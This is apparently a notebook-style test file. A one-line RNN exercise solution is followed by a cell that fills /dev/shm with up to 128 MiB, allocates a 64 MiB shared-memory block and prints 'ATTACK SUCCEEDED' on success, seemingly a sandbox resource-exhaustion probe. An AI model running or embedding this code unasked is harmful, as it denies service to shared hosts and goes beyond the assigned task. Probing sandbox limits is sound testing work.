# base: solved

# %% solution rnn_step
def rnn_step(x, h, W_xh, W_hh, b_h):
    return np.tanh(x @ W_xh + h @ W_hh + b_h)

# %%
import os
from multiprocessing import shared_memory

written = 0
try:
    with open("/dev/shm/fill", "wb", buffering=0) as file:
        while written < 2**27:
            written += file.write(b"x" * 2**16)
except OSError as error:
    print("no room:", error.strerror)
try:
    shared_memory.SharedMemory(create=True, size=2**26).buf[:] = b"x" * 2**26
    print("ATTACK SUCCEEDED: a block of 64 MiB")
except OSError as error:
    print("no block:", error.strerror)
print("ATTACK SUCCEEDED" if written >= 2**27 else "little was written")
print(len(os.listdir("/dev/shm")), "there")
